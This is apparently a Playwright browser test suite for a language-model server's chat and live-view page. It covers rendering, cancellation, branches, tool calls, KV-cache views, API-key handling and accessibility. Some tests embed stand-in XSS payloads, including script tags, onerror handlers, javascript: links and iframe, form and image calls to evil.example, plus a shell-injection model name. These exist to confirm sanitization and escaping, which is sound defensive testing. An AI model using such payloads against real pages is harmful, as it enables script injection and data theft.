"""The page in a real browser: chat, live view, API key and accessibility."""

from __future__ import annotations

import ast
import json
import re
import subprocess
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from metal_engine.scheduling.speculation.ngram import NgramProposer
from metal_engine.settings.server_args import ServerArgs
from tests.support.browsing import DESK, PHONE, ask, hold_after, page_of, picture_of, say, texts, wait_for_answer
from tests.support.calling import answering
from tests.support.serving import Served, serve, wait_until
from tests.support.speculation import propose_from, speculative_config
from tools.fixtures.fake_engine import fake_config, script, tiny_tokenizer

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

pytestmark = pytest.mark.browser

MARKDOWN = "# A title\n\nSome **bold** text and `code`.\n\n```python\nprint(1)\n```\n\n- one\n- two\n"
HOSTILE = (
    "<script>window.hurt = 1</script><img src=x onerror='window.hurt = 1'>"
    "<a href='javascript:window.hurt = 1' onclick='window.hurt = 1' style='color: red'>a</a>\n\n"
    "[b](javascript:alert(1)) ![secret](http://evil.example/?secret) <iframe src='http://evil.example'></iframe>"
    "<form action='http://evil.example'><input name=q></form> <svg onload='window.hurt = 1'></svg> the end"
)
THOUGHT = "<think>Let me see.</think>It is sunny."
CALL = '<tool_call>{"name": "weather", "arguments": {"city": "Rome"}}</tool_call>'
TOOLS = [{"type": "function", "function": {"name": "weather", "parameters": {"type": "object", "properties": {}}}}]


@pytest.fixture
def page(browser: Browser, served: Served) -> Iterator[Page]:
    """Yield the page on a server that generates up to its context length."""
    with page_of(browser, served) as page:
        yield page


def test_a_response_is_shown_as_markdown_with_time_and_token_figures(browser: Browser) -> None:
    with serve(script(MARKDOWN), step_time=0.005) as served, page_of(browser, served) as page:
        for number in (1, 2):
            ask(page, "Show me", number)
        answer = page.locator(".message.assistant").first
        assert answer.locator("h1").inner_text() == "A title" and answer.locator("strong").inner_text() == "bold"
        assert answer.locator("pre").inner_text().strip() == "print(1)" and answer.locator("li").count() == 2
        assert answer.get_by_label("Copy this code").is_visible()
        first, second = texts(page, ".message.assistant .figures")
        assert "first token after" in first and "tokens/s" in first and "0 of " in first
        cached = int(second.split("·")[-1].split()[0])
        assert cached > 0 and cached % 8 == 0  # cached blocks of the first prompt


def test_a_response_footer_shows_the_accepted_drafts(browser: Browser) -> None:
    """The count does not include drafts of an earlier answer."""
    speculative = speculative_config()
    config = fake_config(speculative=speculative)
    with serve(script("again and " * 30), config=config, step_time=0.005) as served, page_of(browser, served) as page:
        propose_from(served.core, NgramProposer(speculative))
        assert served.post("/v1/completions", {"prompt": "again and again and", "max_tokens": 200}).status_code == 200
        before = served.engine.metrics.num_draft_tokens, sum(served.engine.metrics.num_accepted_tokens)
        ask(page, "Go on")
        figures = page.locator(".message.assistant .figures", has_text="drafts accepted")
        after = served.engine.metrics.num_draft_tokens, sum(served.engine.metrics.num_accepted_tokens)
        proposed, accepted = after[0] - before[0], after[1] - before[1]
        assert proposed > accepted > 0 or proposed == accepted > 0
        assert f" {accepted} of {proposed} drafts accepted" in figures.inner_text()
        page.reload()
        assert f" {accepted} of {proposed} drafts accepted" in figures.inner_text()


def test_hostile_model_output_is_sanitized(browser: Browser) -> None:
    with serve(script(HOSTILE)) as served, page_of(browser, served) as page:
        ask(page, "Hurt me")
        body = page.locator(".message.assistant .body")
        assert "the end" in body.inner_text() and page.evaluate("window.hurt") is None
        assert body.locator("script, img, iframe, form, input, svg, [onclick], [style]").count() == 0
        assert body.locator("a[href^=javascript]").count() == 0
        assert body.locator("a", has_text="secret").get_attribute("rel") == "noopener noreferrer nofollow"


def test_stop_ends_the_request(page: Page, served: Served) -> None:
    served.runner.step_time = 0.01
    say(page, "Go on")
    page.wait_for_selector(".message.assistant .figures")
    page.click("#stop")
    wait_for_answer(page)
    wait_until(lambda: not served.core.has_requests, "the request to end")
    served.runner.step_time = 0.0
    assert texts(page, ".message.assistant .ending") == ["stopped"]
    assert page.locator(".message.assistant .problem").count() == 0  # only errors are red
    text = page.locator(".message.assistant .body").inner_text()
    page.reload()
    assert page.locator(".message.assistant .body").inner_text() == text


def test_a_reload_aborts_the_request_and_keeps_the_partial_response(page: Page, served: Served) -> None:
    served.runner.step_time = 0.02
    say(page, "Go on")
    page.wait_for_selector(".message.assistant .figures")
    page.wait_for_function(
        "() => Object.keys(localStorage).some(k => k.includes('conversation') && localStorage[k].includes('figures'))"
    )
    page.reload()
    wait_until(lambda: not served.core.has_requests, "the request to end")
    served.runner.step_time = 0.0
    assert texts(page, ".message.assistant .ending") == ["the page was closed"]
    assert page.locator(".message.user .body").inner_text() == "Go on"
    assert page.locator(".message.assistant .body").inner_text()


def test_edits_and_repetitions_are_branches(browser: Browser) -> None:
    with serve(script("yes")) as served, page_of(browser, served) as page:
        ask(page, "First")
        ask(page, "Second", 2)
        page.get_by_label("Answer again").last.click()
        wait_for_answer(page, 2)
        assert "2 of 2" in page.locator(".message").nth(3).inner_text()
        page.get_by_label("Edit and send again").first.click()
        page.locator(".edit textarea").fill("Other")
        page.get_by_role("button", name="Send again", exact=True).click()
        wait_for_answer(page)
        assert texts(page, ".message.user .body") == ["Other"]
        page.reload()  # branches persist
        page.get_by_label("Branch before").first.click()
        assert texts(page, ".message.user .body") == ["First", "Second"]
        assert "2 of 2" in page.locator(".message").nth(3).inner_text()


@pytest.mark.full
def test_conversations_are_kept_and_deleted(browser: Browser) -> None:
    with serve(script("yes")) as served, page_of(browser, served) as page:
        page.on("dialog", lambda dialog: dialog.accept())
        for text in ("One", "Two"):
            page.click("#conversation-new")
            ask(page, text)
        assert texts(page, "#conversations option")[0] == "Two"
        page.select_option("#conversations", label="One")
        assert texts(page, ".message.user .body") == ["One"]
        page.click("#conversation-more summary")
        page.click("#conversation-delete")
        assert texts(page, ".message.user .body") == ["Two"]
        assert "One" not in texts(page, "#conversations option")


@pytest.mark.full
def test_settings_reach_the_sampler(browser: Browser) -> None:
    with serve(script("yes")) as served, page_of(browser, served) as page:
        page.click("#settings-open")
        page.get_by_label("Temperature").fill("0.25")
        page.get_by_label("Tokens at most").fill("2")
        page.get_by_label("System prompt").fill("Be brief.")
        page.reload()
        ask(page, "Hi")
        (params,) = served.runner.seen_params
        assert (params.temperature, params.max_tokens) == (0.25, 2)
        assert "cut at the token limit" in page.locator(".message.assistant").inner_text()
        prompt = len(tiny_tokenizer().apply_chat_template([{"role": "user", "content": "Hi"}]))
        assert f"of {prompt} prompt tokens" not in page.locator(".message.assistant").inner_text()


def test_reasoning_is_folded(browser: Browser) -> None:
    with answering(THOUGHT) as served, page_of(browser, served) as page:
        ask(page, "Hi")
        assert texts(page, ".message.assistant .body") == ["It is sunny."]
        details = page.locator("details.reasoning")
        assert details.get_attribute("open") is None and not details.locator(".text").is_visible()
        details.locator("summary").click()
        assert details.locator(".text").inner_text().strip() == "Let me see."


@pytest.mark.full
def test_calls_are_shown_and_answered(browser: Browser) -> None:
    with answering(CALL) as served, page_of(browser, served) as page:
        page.click("#settings-open")
        page.get_by_label("Tools, as OpenAI's JSON list").fill(json.dumps(TOOLS))
        page.click("#settings-open")
        ask(page, "The weather in Rome?")
        call = page.locator("details.call").first
        assert "Call of weather" in call.inner_text()
        assert json.loads(call.locator("code").inner_text()) == {"city": "Rome"}
        call.get_by_label("Result of the call").fill("sunny")
        call.get_by_role("button", name="Send the result").click()
        wait_for_answer(page, 2)
        assert texts(page, ".message.tool .body") == ["sunny"]


def test_prefill_progress_is_shown_for_a_long_prompt(browser: Browser) -> None:
    config = fake_config(max_num_batched_tokens=16)
    with serve(script("yes"), config=config, step_time=0.15) as served, page_of(browser, served) as page:
        going_on = hold_after(served, 6)
        say(page, "long " * 60)
        page.wait_for_function("() => (document.querySelector('.waiting progress')?.value ?? 0) > 1")
        said = page.locator(".waiting").inner_text()
        assert "computing the prompt" in said and "of 3" in said
        served.runner.step_time = 0.0
        going_on.set()
        wait_for_answer(page)
        assert not page.locator(".waiting").is_visible()


def test_a_cell_of_several_blocks_names_the_requests_that_use_the_blocks(browser: Browser) -> None:
    config = fake_config(num_blocks=20_000)
    body = {"prompt": "a prefix that two requests share, of some blocks", "n": 2, "max_tokens": 200}
    with serve(config=config, step_time=0.01) as served, page_of(browser, served) as page, ThreadPoolExecutor() as pool:
        going_on = hold_after(served, 50)
        asked = pool.submit(served.post, "/v1/completions", body)
        shared = """async () => {
            const { pool } = await import("/page/js/main.js");
            return pool.owners[0]?.length === 2 && pool.requests.size === 2;
        }"""
        wait_until(lambda: page.evaluate(shared), "both requests")
        wait_until(lambda: served.runner.num_steps > 50, "the engine to stop")
        page.wait_for_timeout(300)
        page.locator("#blocks").focus()
        page.keyboard.press("ArrowRight")
        page.keyboard.press("ArrowRight")
        page.keyboard.press("ArrowLeft")
        said = page.locator("#blocks-now").inner_text()
        each = int(said.split("to ")[1].split(":")[0]) + 1
        tables = picture_of(page).tables
        references = [sum(block in table for table in tables.values()) for block in range(each)]
        used = sum(map(bool, references))
        assert each > 1 and max(references) == 2 and f"{used} in use" in said
        assert f"{sum(references)} references, 2 at most to one block" in said
        ids = page.evaluate(
            "async () => [...(await import('/page/js/main.js')).pool.requests.values()].map(one => one.id)"
        )
        assert len(ids) == 2 and all(f"…{one}" in said for one in ids)
        going_on.set()
        assert asked.result().status_code == 200


def wait_for_status(page: Page, text: str) -> None:
    page.wait_for_function("text => document.querySelector('#demo-status').textContent.includes(text)", arg=text)


def test_the_live_view_follows_an_exhaustion(browser: Browser) -> None:
    config = fake_config(num_blocks=64, block_size=4, max_model_len=128)
    with serve(config=config, step_time=0.002) as served, page_of(browser, served) as page:
        page.click("#demo-fill")
        wait_for_status(page, "The cache was full")
        preemptions = served.engine.stats.num_preemptions
        assert preemptions > 0 and f"{preemptions} preemptions" in page.locator("#demo-status").inner_text()
        page.wait_for_function("() => document.querySelector('#blocks-text').textContent.includes(' 0 in use')")
        picture_of(page).check(served.core.scheduler)
        served.runner.step_time = 0.05
        say(page, "one more")
        page.wait_for_selector(".message.assistant .figures")
        served.runner.running.clear()  # during an answer
        page.wait_for_timeout(500)
        assert picture_of(page).tables
        served.runner.running.set()
        page.click("#stop")


@pytest.mark.full
def test_demonstrations(browser: Browser) -> None:
    config = fake_config(num_blocks=512, block_size=16, max_model_len=2400, max_num_batched_tokens=256)
    with serve(config=config) as served, page_of(browser, served) as page:
        page.click("#demo-eight")
        wait_for_status(page, "Eight questions shared")
        assert len(served.runner.seen_params) == 8
        assert page.locator("#demo-progress").is_hidden()
        served.runner.seen_params.clear()
        served.runner.step_time = 0.01
        page.click("#demo-long")
        wait_for_status(page, "went through")
        said = page.locator("#demo-status").inner_text()
        assert "A prompt of 1,024 tokens" in said and "A step has room for 256" in said and "4 chats got" in said
        # requests of the chats were first
        assert [params.max_tokens for params in served.runner.seen_params] == [128] * 4 + [24]
        wait_until(lambda: not served.core.has_requests, "the chats to end")
        served.runner.step_time = 0.05
        page.click("#demo-eight")
        wait_for_status(page, "0 of 8")
        page.click("#demo-stop")
        wait_for_status(page, "Stopped.")
        wait_until(lambda: not served.core.has_requests, "the requests to end")


@pytest.mark.full
def test_the_fill_demo_refuses_a_kv_cache_too_large_to_fill(browser: Browser) -> None:
    with serve(config=fake_config(num_blocks=20_000)) as served, page_of(browser, served) as page:
        page.click("#demo-fill")
        page.wait_for_selector("#demo-status:not([hidden])")
        assert "--num-gpu-blocks-override" in page.locator("#demo-status").inner_text()
        assert not served.runner.has_arrived


def test_the_api_key_is_requested_and_kept_only_for_the_browser_tab(browser: Browser) -> None:
    with serve(script("yes"), args=ServerArgs(api_key=("sesame",))) as served:
        with page_of(browser, served, live=False) as page:
            page.locator("#key-dialog").wait_for()
            page.fill("#key", "wrong")
            page.get_by_role("button", name="Use it").click()
            page.wait_for_selector("#key-problem:not([hidden])")
            page.fill("#key", "sesame")
            page.get_by_role("button", name="Use it").click()
            page.wait_for_selector("#connection[data-state=live]")
            ask(page, "Hi")
            page.reload()
            page.wait_for_selector("#connection[data-state=live]")
            assert "sesame" not in page.evaluate("JSON.stringify(localStorage)")
            assert "sesame" not in page.content()
        with page_of(browser, served, live=False) as page:
            page.locator("#key-dialog").wait_for()


@pytest.mark.full
def test_the_live_view_reconnects_when_the_server_returns(browser: Browser, served: Served) -> None:
    with page_of(browser, served) as page:
        served.loop.call_soon_threadsafe(served.server.config.app.state.viewer_registry.of(None).close)  # type: ignore[union-attr]
        page.wait_for_selector("#connection[data-state=lost]")
        served.loop.call_soon_threadsafe(served.server.config.app.state.viewer_registry.of(None)._closed.clear)  # type: ignore[union-attr]
        page.wait_for_selector("#connection[data-state=live]")


@pytest.mark.full
def test_names_are_text(browser: Browser) -> None:
    with serve(names=("<b>&amp;",)) as served, page_of(browser, served) as page:
        assert page.locator("#model").inner_text().startswith("<b>&amp;") and page.locator("#model b").count() == 0
        page.click("#connect-open")
        assert '"model":"<b>&amp;"' in page.locator("#connect-list pre").first.inner_text()
        assert served.url in page.locator("#connect-list").inner_text()


def test_lines_for_a_shell_have_names_as_texts(browser: Browser, tmp_path: Path) -> None:
    name = "a$(touch hurt) `touch hurt` 'b' \"c\" \\ ;touch hurt"
    with serve(names=(name,)) as served, page_of(browser, served) as page:
        page.click("#connect-open")
        titles, lines = (page.locator(f"#connect-list {tag}").all_inner_texts() for tag in ("h3", "pre"))
        shown = dict(zip(titles, lines, strict=True))

    def told(lines: str) -> list[str]:
        done = subprocess.run(["/bin/bash", "-c", lines], cwd=tmp_path, capture_output=True, text=True, check=True)
        return done.stdout.split("\0")[:-1]

    told_words = "() { printf '%s\\0' \"$@\"; }\n"
    command = told("curl" + told_words + shown["curl"])
    assert json.loads(command[-1])["model"] == name and command[0] == f"{served.url}/v1/chat/completions"
    for kind in ("OpenAI", "Anthropic"):
        lines = shown[f"Any tool with {kind}'s API"]
        assert told(f"{lines}\nprintf '%s\\0' \"${kind.upper()}_MODEL\"") == [name]
    nodes = ast.walk(ast.parse(shown["Python, with openai"]))
    (model,) = [node.value for node in nodes if isinstance(node, ast.keyword) and node.arg == "model"]
    assert ast.literal_eval(model) == name
    for tool in ("Claude Code", "Codex", "opencode", "aider"):
        assert name not in shown[tool]
    assert list(tmp_path.iterdir()) == []


def test_the_keyboard_is_enough(page: Page, served: Served) -> None:
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.className") == "skip"
    page.keyboard.press("Enter")
    page.keyboard.type("Hi")
    page.keyboard.press("Shift+Enter")
    page.dispatch_event("#prompt", "keydown", {"key": "Enter", "keyCode": 229})  # in Safari, after a composed word
    assert page.input_value("#prompt") == "Hi\n"
    page.keyboard.press("Enter")
    wait_for_answer(page)
    page.locator("#tape").focus()
    page.keyboard.press("ArrowUp")
    assert re.search("tokens? after", page.locator("#tape-now").inner_text())
    page.locator("#blocks").focus()
    page.keyboard.press("ArrowRight")
    assert page.locator("#blocks-now").inner_text().startswith("block 0:")
    page.keyboard.press("Escape")
    assert "arrow keys" in page.locator("#blocks-now").inner_text()


@pytest.mark.parametrize(("scheme", "viewport"), [("light", DESK), ("dark", PHONE)], ids=["desk", "phone"])
def test_an_accessibility_checker_finds_nothing(browser: Browser, scheme: str, viewport: dict[str, int]) -> None:
    axe = pytest.importorskip("axe_playwright_python.sync_playwright").Axe()

    def check(page: Page, what: str) -> None:
        found = axe.run(page).response["violations"]
        assert not found, (what, [(one["id"], [node["html"][:120] for node in one["nodes"]]) for one in found])

    with serve(script(MARKDOWN)) as served, page_of(browser, served, viewport=viewport, color_scheme=scheme) as page:
        check(page, "at first")
        ask(page, "Show me")
        page.click("#settings-open")
        check(page, "after an answer")
        page.click("#connect-open")
        check(page, "clients")
        page.click("#connect-close")
        if viewport == PHONE:
            page.click("#tab-live")
            assert page.locator("#tape").is_visible() and not page.locator("#prompt").is_visible()
            check(page, "the engine")
        page.evaluate("document.querySelector('#key-dialog').showModal()")
        check(page, "the key")
        assert page.evaluate("document.documentElement.scrollWidth") <= viewport["width"]
